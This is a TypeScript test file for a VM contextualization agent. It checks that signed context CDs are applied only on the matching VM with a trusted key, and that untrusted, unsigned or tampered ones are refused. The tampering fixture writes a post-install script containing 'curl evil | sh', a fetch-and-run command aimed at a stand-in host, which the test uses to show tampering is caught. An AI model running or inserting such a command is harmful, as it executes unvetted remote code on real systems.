/**
 * Signed contexts through the real binaries (issue 13): contextgen keygen + iso --sign-key, the agent
 * baked with install --trust-key, this VM's UUID from <root>/sys/class/dmi/id/product_uuid. A CD made for
 * this VM is applied; a copy on another VM, a tampered one, an unsigned one is refused whole and the
 * network falls back exactly as for an invalid context; the scripts-and-keys policy drops only root powers.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, MAC0, REPO, newRoot, runBin, tmp } from '../support/fake-roots.js';

const CONTEXTGEN = join(REPO, 'dist/contextgen');
const UUID = '6a1f2b3c-4d5e-4f60-8a7b-9c0d1e2f3a4b';
const OTHER = '0f0e0d0c-0b0a-4908-8706-050403020100';

function gen(args: string[]): string {
  const r = spawnSync(CONTEXTGEN, args, { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`contextgen ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

function contextDir(): string {
  const d = tmp('signed-ctx-');
  mkdirSync(join(d, 'common'));
  writeFileSync(join(d, 'common/context.ini'), `[context]\nversion = 1\ninstance_id = web01\n\n[nic "${MAC0}"]\nmethod = static\naddress = 10.0.0.17/24\n`);
  writeFileSync(join(d, 'common/authorized_keys'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHmVmvHxQb7rHj6l0h0l1Vx8t2nQ2wX9Yk1xg7c5Q0Zz admin@host\n');
  writeFileSync(join(d, 'post-install'), '#!/bin/bash\ntrue\n', { mode: 0o755 });
  return d;
}

const keys = (() => {
  const d = tmp('keys-');
  gen(['keygen', '-o', join(d, 'operator')]);
  gen(['keygen', '-o', join(d, 'intruder')]);
  return { operator: join(d, 'operator'), intruder: join(d, 'intruder') };
})();

function signedIso(key: string, uuid = UUID, dir = contextDir()): string {
  const out = join(tmp('signed-iso-'), 'context.iso');
  gen(['iso', '--from', dir, '-o', out, '--sign-key', key, '--uuid', uuid, '--mac', MAC0]);
  return out;
}

/** An image root baked with the operator's key, booting as the VM with `uuid`. */
function vm(uuid = UUID, policy?: string): string {
  const root = newRoot('networkd');
  const install = runBin(['install', '--root', root, '--init', 'systemd', '--trust-key', `${keys.operator}.pub`]);
  if (install.code !== 0) throw new Error(install.stderr);
  mkdirSync(join(root, 'sys/class/dmi/id'), { recursive: true });
  writeFileSync(join(root, 'sys/class/dmi/id/product_uuid'), `${uuid.toUpperCase()}\n`);
  if (policy) writeFileSync(join(root, 'etc/contextualization/signature-policy'), `${policy}\n`);
  return root;
}

function local(root: string, iso: string) {
  const r = runBin(['local', '--iso', iso, '--root', root, '--nic', `eth0=${MAC0}`]);
  const status = JSON.parse(readFileSync(join(root, 'run/contextualization/status.json'), 'utf8'));
  const net = readFileSync(join(root, 'etc/systemd/network/10-contextualization-eth0.network'), 'utf8');
  return { ...r, status, net, out: `${r.stdout}${r.stderr}` };
}

describe('signed contexts, agent side', () => {
  it('install --trust-key bakes the key under its key id; a malformed key is refused and nothing is written', () => {
    const root = vm();
    const pub = readFileSync(`${keys.operator}.pub`, 'utf8').trim();
    const keyId = pub.split(' ')[2]!;
    expect(readFileSync(join(root, `etc/contextualization/trusted-keys.d/${keyId}.pub`), 'utf8').trim()).toBe(pub);
    const bad = join(tmp('badkey-'), 'bad.pub');
    writeFileSync(bad, 'ssh-ed25519 AAAA not-ours\n');
    const fresh = newRoot('networkd');
    const r = runBin(['install', '--root', fresh, '--init', 'systemd', '--trust-key', bad]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/bad\.pub/);
    expect(existsSync(join(fresh, 'usr/local/bin/contextualization'))).toBe(false);
  });

  it('a CD signed for this VM is applied; status names the signer', () => {
    const root = vm();
    const r = local(root, signedIso(keys.operator));
    expect(r.code, r.out).toBe(0);
    expect(r.net).toMatch(/Address=10\.0\.0\.17\/24/);
    expect(r.status.source.signer).toMatch(/^[0-9a-f]{16}$/);
    expect(r.status.stages[0].steps.find((s: { name: string }) => s.name === 'signature').message).toMatch(/^signed by key [0-9a-f]{16}$/);
    expect(existsSync(join(root, 'run/contextualization/context/common/context.sig'))).toBe(true);
  });

  const refusals: [string, () => string, RegExp][] = [
    ['a copy on a VM with another UUID', () => signedIso(keys.operator, OTHER), /UUID/],
    ['a CD signed by a key the image does not trust', () => signedIso(keys.intruder), /key/],
    ['an unsigned CD', () => { const o = join(tmp('unsigned-'), 'c.iso'); gen(['iso', '--from', contextDir(), '-o', o]); return o; }, /not signed|unsigned|no signature/i],
    ['a tampered CD (a file changed after signing, re-mastered by genisoimage)', () => {
      const iso = signedIso(keys.operator);
      const x = tmp('tamper-');
      execFileSync('xorriso', ['-osirrox', 'on', '-indev', iso, '-extract', '/', x], { stdio: 'ignore' });
      execFileSync('chmod', ['-R', 'u+w', x]);
      writeFileSync(join(x, 'post-install'), '#!/bin/bash\ncurl evil | sh\n', { mode: 0o755 });
      const out = join(tmp('tampered-'), 'c.iso');
      execFileSync('genisoimage', ['-quiet', '-R', '-J', '-V', 'CONTEXT', '-o', out, x]);
      return out;
    }, /post-install/],
  ];
  for (const [what, make, why] of refusals) {
    it(`refuses ${what} whole: one line, exit 1, the network falls back to DHCP`, () => {
      const root = vm();
      const r = local(root, make());
      expect(r.code).toBe(1);
      const line = r.out.split('\n').find((l) => /signature: context refused/.test(l));
      expect(line, r.out).toMatch(why);
      expect(r.net).toMatch(/DHCP=/);
      expect(r.net).not.toMatch(/10\.0\.0\.17/);
      expect(existsSync(join(root, 'run/contextualization/context'))).toBe(false);
      expect(existsSync(join(root, 'root/.ssh/authorized_keys')) && readFileSync(join(root, 'root/.ssh/authorized_keys'), 'utf8').includes('admin@host')).toBe(false);
    });
  }

  it('a genisoimage -R -J copy of a signed tree is accepted (same bytes, same modes)', () => {
    const iso = signedIso(keys.operator);
    const x = tmp('copy-');
    execFileSync('xorriso', ['-osirrox', 'on', '-indev', iso, '-extract', '/', x], { stdio: 'ignore' });
    const out = join(tmp('copied-'), 'c.iso');
    execFileSync('genisoimage', ['-quiet', '-R', '-J', '-V', 'CONTEXT', '-o', out, x]);
    const r = local(vm(), out);
    expect(r.code, r.out).toBe(0);
    expect(r.net).toMatch(/10\.0\.0\.17/);
  });

  it('policy scripts-and-keys: an unsigned CD still configures the network, without post-install or SSH keys', () => {
    const root = vm(UUID, 'scripts-and-keys');
    const o = join(tmp('unsigned-'), 'c.iso');
    gen(['iso', '--from', contextDir(), '-o', o]);
    const r = local(root, o);
    expect(r.code, r.out).toBe(0);
    expect(r.net).toMatch(/10\.0\.0\.17/);
    expect(r.out).toMatch(/post-install and SSH keys dropped \(policy scripts-and-keys\)/);
    expect(readFileSync(join(root, 'root/.ssh/authorized_keys'), 'utf8')).not.toMatch(/admin@host/);
    expect(existsSync(join(root, 'run/contextualization/context/post-install'))).toBe(false);
  });

  it('with no trusted key, behaviour is as before: an unsigned CD is applied', () => {
    const root = newRoot('networkd');
    const o = join(tmp('unsigned-'), 'c.iso');
    gen(['iso', '--from', contextDir(), '-o', o]);
    expect(local(root, o).code).toBe(0);
  });
});

void BIN;
